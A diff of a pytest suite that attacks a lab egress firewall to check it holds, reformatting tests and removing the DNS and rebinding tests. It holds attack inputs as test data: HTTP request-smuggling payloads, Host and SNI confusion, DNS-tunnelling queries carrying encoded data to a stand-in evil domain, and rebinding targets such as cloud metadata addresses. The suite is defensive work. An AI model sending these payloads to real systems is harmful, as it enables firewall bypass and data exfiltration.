@@ -1,16 +1,20 @@
-"""Attacks by name: DNS, TLS and HTTP (1-17, 24-26, 45)."""
+"""Attacks by name over TLS and HTTP (1-13, 45)."""
 
 from __future__ import annotations
 
-import subprocess
 import time
 
 import pytest
 
-from tests.firewall.common import nothing_left, refused, request, with_allowed
-from tests.firewall.conftest import POLICY
-from tests.firewall.lab.engines import Box
-from tests.firewall.lab.network import EVIL, EVIL6, LAN, METADATA, RESOLVER, RESOLVER6, SECOND, SHARED, SHARED6, Lab
+from tests.firewall.common import nothing_left, refused, request
+from tests.firewall.lab.box import Box
+from tests.firewall.lab.network import (
+    EVIL,
+    EVIL6,
+    SHARED,
+    SHARED6,
+    Lab,
+)
 
 pytestmark = pytest.mark.real
 attack = pytest.mark.attack
@@ -53,7 +57,9 @@ def test_blocked(box: Box, lab: Lab) -> None:
 
 
 @pytest.mark.parametrize("sni", ["", EVIL], ids=["no-name", "address"])
-@attack(4, "TLS to an address, with no name or the address as name", "reset; the address on record; nothing left")
+@attack(
+    4, "TLS to an address, with no name or the address as name", "reset; the address on record; nothing left"
+)
 def test_direct_tls(box: Box, lab: Lab, sni: str) -> None:
     since = lab.now()
     answer = box.try_one("hello", sni=sni, address=EVIL)
@@ -92,7 +98,11 @@ def test_other_tenant_http(box: Box, lab: Lab) -> None:
     assert box.rows(layer="http", verdict="deny", name="blocked.example")
 
 
-@attack(8, "an allowed name dialled at a stranger's address", "the real host answers; nothing went to the stranger")
+@attack(
+    8,
+    "an allowed name dialled at a stranger's address",
+    "the real host answers; nothing went to the stranger",
+)
 def test_lying_address(box: Box, lab: Lab) -> None:
     since = lab.now()
     answer = box.try_one("https", name="allowed.example", address=EVIL)
@@ -154,9 +164,17 @@ def test_upper_case(box: Box, lab: Lab) -> None:
 
 @pytest.mark.parametrize(
     "name",
-    ["notallowed.example", "allowed.example.evil.example", "x.allowed.example", "allowed.exampl", "llowed.example",
-     "allowed-example", "wild.example.evil.example", "xwild.example"],
-)  # fmt: skip
+    [
+        "notallowed.example",
+        "allowed.example.evil.example",
+        "x.allowed.example",
+        "allowed.exampl",
+        "llowed.example",
+        "allowed-example",
+        "wild.example.evil.example",
+        "xwild.example",
+    ],
+)
 @attack(11, "names that look like an allowed one", "denied; nothing left")
 def test_look_alikes(box: Box, lab: Lab, name: str) -> None:
     since = lab.now()
@@ -168,7 +186,12 @@ def test_look_alikes(box: Box, lab: Lab, name: str) -> None:
 @attack(12, "bytes that are no TLS on port 443", "closed; nothing left")
 def test_no_tls(box: Box, lab: Lab) -> None:
     since = lab.now()
-    for text in ("SSH-2.0-x\r\n", request("allowed.example"), "\x16\x03\x01\xff\xff" + "a" * 5000, "\x80\x2e\x01\x03\x01"):
+    for text in (
+        "SSH-2.0-x\r\n",
+        request("allowed.example"),
+        "\x16\x03\x01\xff\xff" + "a" * 5000,
+        "\x80\x2e\x01\x03\x01",
+    ):
         answer = box.try_one("tcp", address=SHARED, port=443, send=text, seconds=7)
         assert answer.get("data", "") == ""
     nothing_left(box, since)
@@ -185,31 +208,44 @@ def test_silence(box: Box, lab: Lab) -> None:
 @attack(13, "HTTP keep-alive with another Host second", "403 for the second; nothing of it left")
 def test_keep_alive(box: Box, lab: Lab) -> None:
     since = lab.now()
-    answer = box.try_one("http", address=SHARED, text=request("allowed.example"), then=request("blocked.example"))
+    answer = box.try_one(
+        "http", address=SHARED, text=request("allowed.example"), then=request("blocked.example")
+    )
     assert answer["first"].startswith("HTTP/1.1 200")
     assert answer["data"].startswith("HTTP/1.1 403")
     assert not lab.arrived(since, kind="http", host="blocked.example")
 
 
+H2C = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"
+
+
 SMUGGLED = request("blocked.example", "/smuggled")
+
+
 CONFUSED = {
     "absolute-denied": "GET http://blocked.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n",
     "two-hosts": "GET / HTTP/1.1\r\nHost: allowed.example\r\nHost: blocked.example\r\n\r\n",
     "connect": "CONNECT blocked.example:443 HTTP/1.1\r\nHost: allowed.example\r\n\r\n",
     "http-1.0": "GET / HTTP/1.0\r\n\r\n",
     "http-0.9": "GET /\r\n",
-    "cl-te": request("allowed.example", method="POST", more="Content-Length: 4\r\nTransfer-Encoding: chunked\r\n")
-    + "0\r\n\r\n" + SMUGGLED,
-    "te-te": request("allowed.example", method="POST", more="Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n")
-    + "0\r\n\r\n" + SMUGGLED,
+    "cl-te": request(
+        "allowed.example", method="POST", more="Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"
+    )
+    + "0\r\n\r\n"
+    + SMUGGLED,
+    "te-te": request(
+        "allowed.example", method="POST", more="Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n"
+    )
+    + "0\r\n\r\n"
+    + SMUGGLED,
     "folded": "GET / HTTP/1.1\r\nHost: allowed.example\r\n blocked.example\r\n\r\n",
     "host-list": request("allowed.example,blocked.example"),
     "host-at": request("allowed.example@blocked.example"),
     "host-nul": request("allowed.example\0.blocked.example"),
     "host-port": request("blocked.example:80"),
-    "h2c": request("blocked.example", more="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"),
+    "h2c": request("blocked.example", more=H2C),
     "space": "GET / HTTP/1.1\r\nHost : allowed.example\r\nHost: blocked.example\r\n\r\n",
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("text", CONFUSED.values(), ids=CONFUSED)
@@ -218,118 +254,16 @@ def test_confused(box: Box, lab: Lab, text: str) -> None:
     since = lab.now()
     box.try_one("http", address=SHARED, text=text)
     arrived = lab.arrived(since, kind="http")
-    assert not [row for row in arrived if "allowed.example" != row["host"] or row["path"] == "/smuggled"]
+    assert not [row for row in arrived if row["host"] != "allowed.example" or row["path"] == "/smuggled"]
 
 
 @attack(13, "an absolute URI of an allowed host with a denied Host", "the denied Host is not passed on")
 def test_absolute(box: Box, lab: Lab) -> None:
     since = lab.now()
-    box.try_one("http", address=SHARED, text="GET http://allowed.example/x HTTP/1.1\r\nHost: blocked.example\r\n\r\n")
+    box.try_one(
+        "http", address=SHARED, text="GET http://allowed.example/x HTTP/1.1\r\nHost: blocked.example\r\n\r\n"
+    )
     assert {row["host"] for row in lab.arrived(since, kind="http")} <= {"allowed.example"}
-
-
-@pytest.mark.parametrize("kind", [1, 16, 10, 65, 15, 33, 255], ids=["A", "TXT", "NULL", "HTTPS", "MX", "SRV", "ANY"])
-@attack(14, "data in a name asked of the default resolver, any type", "does not exist; no trace upstream")
-def test_dns_tunnel(box: Box, lab: Lab, kind: int) -> None:
-    since = lab.now()
-    answer = box.try_one("dns", name="c2VjcmV0.evil.example", server="127.0.0.1", kind=kind)
-    assert answer["code"] == 3
-    assert answer["answers"] == 0
-    nothing_left(box, since)
-
-
-@pytest.mark.parametrize("kind", [16, 65, 64, 15, 28], ids=["TXT", "HTTPS", "SVCB", "MX", "AAAA"])
-@attack(14, "other record types of an allowed name", "no data, no trace upstream; in particular no ECH key")
-def test_other_types(box: Box, lab: Lab, kind: int) -> None:
-    since = lab.now()
-    answer = box.try_one("dns", name="allowed.example", server="127.0.0.1", kind=kind)
-    assert (answer["code"], answer["answers"]) == (0, 0)
-    nothing_left(box, since)
-
-
-@pytest.mark.parametrize("over", ["udp", "tcp"])
-@pytest.mark.parametrize("server", [EVIL, EVIL6, RESOLVER, RESOLVER6], ids=["evil", "evil6", "upstream", "upstream6"])
-@attack(15, "another resolver, over UDP, TCP, IPv6, and the upstream itself", "answered here or refused; no trace")
-def test_other_resolver(box: Box, lab: Lab, server: str, over: str) -> None:
-    since = lab.now()
-    answer = box.try_one("dns", name="c2VjcmV0.evil.example", server=server, over=over)
-    assert answer.get("code") == 3 or refused(answer)
-    nothing_left(box, since)
-
-
-@pytest.mark.parametrize("kind", [1, 16], ids=["A", "TXT"])
-@pytest.mark.parametrize("domain", ["allowed.example", "wild.example"], ids=["exact", "wildcard"])
-@attack(16, "data in labels below an allowed name and a wildcard", "no trace upstream")
-def test_tunnel_below(box: Box, lab: Lab, domain: str, kind: int) -> None:
-    since = lab.now()
-    answer = box.try_one("dns", name=f"c2VjcmV0.{domain}", server="127.0.0.1", kind=kind)
-    assert answer["code"] == (3 if domain == "allowed.example" else 0)
-    nothing_left(box, since)
-
-
-@attack(17, "DNS over TLS, DNS over HTTPS by address, on the shared address, and over port 80", "denied; nothing left")
-def test_encrypted_dns(box: Box, lab: Lab) -> None:
-    since = lab.now()
-    assert box.try_one("tcp", address=EVIL, port=853)["error"] == "ECONNREFUSED"
-    for address in (EVIL, SHARED):
-        assert not box.try_one("hello", sni="doh.evil.example", address=address).get("answered")
-    text = request("doh.evil.example", "/resolve?name=c2VjcmV0.evil.example&type=TXT")
-    assert box.try_one("http", address=SHARED, text=text)["data"].startswith("HTTP/1.1 403")
-    nothing_left(box, since)
-
-
-POINTED = {
-    "metadata": METADATA[0], "lan": LAN, "gateway": "", "loopback": "127.0.0.1", "ten": "10.1.2.3", "cgnat": "100.64.1.1",
-    "fake": "198.18.0.1", "zero": "0.0.0.0", "multicast": "224.0.0.251", "documentation": "203.0.113.9",
-    "metadata6": METADATA[1], "loopback6": "::1", "link6": "fe80::1", "mapped": "::ffff:169.254.169.254",
-    "6to4": "2002:a9fe:a9fe::1", "nat64": "64:ff9b::a9fe:a9fe", "teredo": "2001:0:a9fe:a9fe::1",
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("target", POINTED)
-@attack(24, "an allowed name pointed at metadata, LAN, gateway, loopback, every private range",
-        "502 or reset; the refusal on record with the proxy's uid; nothing but the DNS query left")  # fmt: skip
-def test_rebinding(box: Box, lab: Lab, target: str) -> None:
-    name, address = f"{target}-{time.time_ns()}.wild.example", POINTED[target] or box.engine.gateway
-    lab.set_zone({name: [address]})
-    since = lab.now()
-    assert refused(box.try_one("https", name=name))
-    answer = box.try_one("http", address=SHARED, text=request(name))
-    assert answer["data"].startswith("HTTP/1.1 502")
-    nothing_left(box, since, {("udp", RESOLVER, 53, name)})
-    # The kernel itself refuses TCP to some of these before any rule sees it.
-    if ":" not in address and not address.startswith(("0.", "127.", "224.")):
-        assert box.rows(layer="l3", verdict="deny", dst=address, uid=64971)
-
-
-@attack(25, "an allowed name moves to another address during a session", "new connections follow it; the old stream lives")
-def test_rotation(box: Box, lab: Lab) -> None:
-    stream = subprocess.Popen(
-        box.engine.argv("exec", "--user", "0", box.name, "python3", "-IS", "/lab/probe.py",
-                        '[["follow", {"name": "rot.example", "seconds": 6}]]'),
-        stdout=subprocess.PIPE,
-    )  # fmt: skip
-    time.sleep(1)
-    lab.set_zone({"rot.example": [SECOND]})
-    time.sleep(1.5)
-    assert box.try_one("https", name="rot.example")["dst"] == SECOND
-    out = stream.communicate(timeout=20)[0].decode()
-    assert '"end": "still open"' in out
-
-
-@attack(26, "a process keeps the address it once resolved", "works: the address of a name never changes here")
-def test_kept_address(box: Box, lab: Lab) -> None:
-    before = {name: box.try_one("resolve", name=name)["addresses"] for name in ("allowed.example", "git.example")}
-    lab.set_zone({"allowed.example": [SECOND]})
-    assert box.apply(with_allowed(POLICY, {"name": "aaa.example", "port": 22}, {"name": "later.example"})).code == 0
-    try:
-        after = {name: box.try_one("resolve", name=name)["addresses"] for name in before}
-        assert after == before
-        assert box.try_one("https", name="allowed.example", address=before["allowed.example"][0])["status"] == "200"
-        assert box.try_one("tcp", address=before["git.example"][0], port=22)["data"].startswith(f"LAB {SECOND} 22")
-    finally:
-        assert box.apply(POLICY).code == 0
-    assert box.try_one("resolve", name="git.example")["addresses"] == before["git.example"]
 
 
 @attack(45, "domain fronting: an allowed SNI, another Host inside the encryption", "gets through", limit=True)
